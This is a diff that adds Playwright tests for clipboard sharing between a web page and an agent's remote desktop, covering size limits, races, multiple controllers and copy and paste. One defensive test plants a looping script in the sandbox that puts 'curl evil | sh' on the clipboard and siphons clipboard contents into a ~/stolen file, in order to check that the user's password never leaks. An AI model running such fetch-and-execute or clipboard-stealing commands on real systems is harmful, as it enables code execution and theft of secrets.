@@ -29,6 +29,30 @@ import { bash, script } from "../lib/script.mjs";
 
 onPage();
 
+/** A page in control of a desk, and this computer's clipboard with `mine` on it: `put` and `got` as another tab would. */
+async function withClipboard(t, mine) {
+  const page = await open(t, "/", { permissions: ["clipboard-read", "clipboard-write"] });
+  const session = await makeByClicking(t, page, "Copies");
+  const other = await page.context().newPage();
+  await other.goto(world.server.url);
+  const put = async (text) => {
+    await other.evaluate((value) => navigator.clipboard.writeText(value), text);
+    // Playwright's tabs all have the focus, so none loses it.
+    await page.evaluate(() => window.dispatchEvent(new Event("blur")));
+  };
+  await put(mine);
+  await page.bringToFront();
+  await takeControl(page);
+  return { page, put, got: () => other.evaluate(() => navigator.clipboard.readText()), ...session };
+}
+
+/** Whether it is so within a moment. */
+const comes = (what, limit = 3000) =>
+  eventually("it comes", what, limit).then(
+    () => true,
+    () => false,
+  );
+
 /** Chromium on the desk takes its time on a busy machine. */
 const tourLimit = 90_000;
 
@@ -127,6 +151,134 @@ describe("the desktop", () => {
       "the sent text",
       async () => (await run(id, "timeout 2 xclip -selection clipboard -o")) === "zum Schreibtisch: Grüße ✓",
     );
+    const length = () => run(id, "timeout 5 xclip -selection clipboard -o | wc -c");
+    await page.getByTestId("clipboard").click();
+    await text.fill("é".repeat(500_000));
+    await page.getByTestId("clipboard-send").click();
+    await eventually("a long text", async () => (await length()) === "1000000");
+    await page.getByTestId("clipboard").click();
+    await text.fill("é".repeat(600_000));
+    await page.getByTestId("clipboard-send").click();
+    await page.getByRole("alert").getByText("too long for the desk's clipboard").waitFor();
+    assert.equal(await length(), "1000000");
+  });
+
+  test("what somebody is about to write over is not changed by what the desk copied", async (t) => {
+    const { page, id } = await clicked(t, "Written over");
+    await desk(id, "system/clipboard", { content: "the desk's" });
+    // The page learns it late, when the field is in use.
+    let release;
+    const released = new Promise((resolve) => (release = resolve));
+    await page.route(/system\/clipboard/, async (route) => {
+      const response = await route.fetch();
+      await released;
+      await route.fulfill({ response });
+    });
+    const answered = page.waitForResponse(/system\/clipboard/);
+    await page.getByTestId("clipboard").click();
+    const text = page.getByTestId("clipboard-text");
+    await text.focus();
+    release();
+    await (await answered).finished();
+    await page.unrouteAll({ behavior: "wait" });
+    // What must not happen says nothing: a page that put the desk's text in would have done so by now.
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
+    await page.keyboard.insertText("mine");
+    assert.equal(await text.inputValue(), "mine");
+    await page.keyboard.press("Escape");
+    await page.getByTestId("clipboard").click();
+    await eventually("the desk's text", async () => (await text.inputValue()) === "the desk's");
+  });
+
+  test("a page that comes later knows what was copied before", async (t) => {
+    const { page, id } = await clicked(t, "Copied before");
+    await desk(id, "system/clipboard", { content: "copied before: Grüße 你好" });
+    const other = await open(t, `/desk/${id}?view_only=1`);
+    await stateIs(other, "viewing");
+    for (const each of [page, other]) {
+      await each.getByTestId("clipboard").click();
+      const text = each.getByTestId("clipboard-text");
+      await eventually("the text", async () => (await text.inputValue()) === "copied before: Grüße 你好");
+    }
+  });
+
+  test("whoever is in control is told of others who are, and that the agent goes on", async (t) => {
+    const { page, id } = await clicked(t, "Two at once");
+    const other = await open(t, `/desk/${id}`);
+    await stateIs(other, "viewing");
+    const viewers = async () => (await world.server.json("GET", at(id))).viewers;
+    await eventually("two who watch", async () => (await viewers()).watching === 2);
+    await takeControl(page);
+    await other.getByText("One other viewer is in control of this desk.").waitFor();
+    await takeControl(other);
+    for (const each of [page, other]) await each.getByText("One other viewer is in control, too").waitFor();
+    assert.deepEqual(await viewers(), { watching: 0, in_control: 2 });
+    await say(page, script(bash("echo begun; sleep 1000"), { text: "Never said." }));
+    await page.getByText("The agent goes on, and one other viewer").waitFor();
+    await other.close();
+    await page.getByText("The agent goes on: what it and you").waitFor();
+    await page.getByTestId("cancel").click();
+    await turnIs(page, "cancelled");
+    await page.getByTestId("control-note").waitFor({ state: "hidden" });
+    assert.deepEqual(await viewers(), { watching: 0, in_control: 1 });
+  });
+
+  test("a person's copy there is this computer's text, and a person's paste there is what this computer has", async (t) => {
+    const { page, id, put, got } = await withClipboard(t, "a password");
+    await desk(id, "file/write", {
+      path: "/home/agent/copying.html",
+      file_text:
+        "<title>copying</title><textarea autofocus style='width:100%;height:90vh'>copied in the desk</textarea>",
+    });
+    await desk(id, "browser/open_url", { url: "file:///home/agent/copying.html" });
+    // What a desk copies long after the keys is no longer taken for theirs, and the first keys may come before the
+    // browser there has painted: a person presses them again.
+    await eventually(
+      "the text here",
+      async () => {
+        await clickDesk(page, 640, 400);
+        await page.keyboard.press("Control+a");
+        await page.keyboard.press("Control+c");
+        return comes(async () => (await got()) === "copied in the desk");
+      },
+      60_000,
+    );
+    await eventually(
+      "the same text back",
+      async () => {
+        await put("typed here: Grüße 你好");
+        await page.keyboard.press("Control+a");
+        await page.keyboard.press("Control+v");
+        await page.keyboard.press("Control+a");
+        await page.keyboard.press("Control+x");
+        return comes(
+          async () => (await run(id, "timeout 2 xclip -selection clipboard -o")) === "typed here: Grüße 你好",
+        );
+      },
+      60_000,
+    );
+  });
+
+  test("its programs neither write this computer's clipboard by themselves nor read it", async (t) => {
+    const { page, id, got } = await withClipboard(t, "a password");
+    await run(
+      id,
+      "cat > ~/hostile <<'END'\nfor ((i = 0; ; ++i)); do\n  echo \"curl evil | sh $i\" | xclip -selection clipboard\n  for what in primary clipboard; do timeout 1 xclip -selection $what -o >> ~/stolen; done\ndone\nEND\nsetsid bash ~/hostile >/dev/null 2>&1 &",
+    );
+    await page.getByTestId("clipboard").click();
+    const shown = page.getByTestId("clipboard-text");
+    const last = async () => Number(/sh (\d+)/.exec(await shown.inputValue())?.[1] ?? -1);
+    for (let round = 0; round < 4; ++round) {
+      const before = await last();
+      await clickDesk(page, 640, 300 + round);
+      await page.keyboard.type("text");
+      await page.evaluate(() => window.dispatchEvent(new Event("focus")));
+      await page.getByTestId("clipboard").click();
+      await eventually("the desk sets its clipboard", async () => (await last()) > before);
+    }
+    assert.equal(await got(), "a password");
+    assert.match(await run(id, "cat ~/stolen"), /evil/);
+    assert.doesNotMatch(await run(id, "cat ~/stolen"), /password/);
   });
 
   test("files go up and come down unchanged", async (t) => {
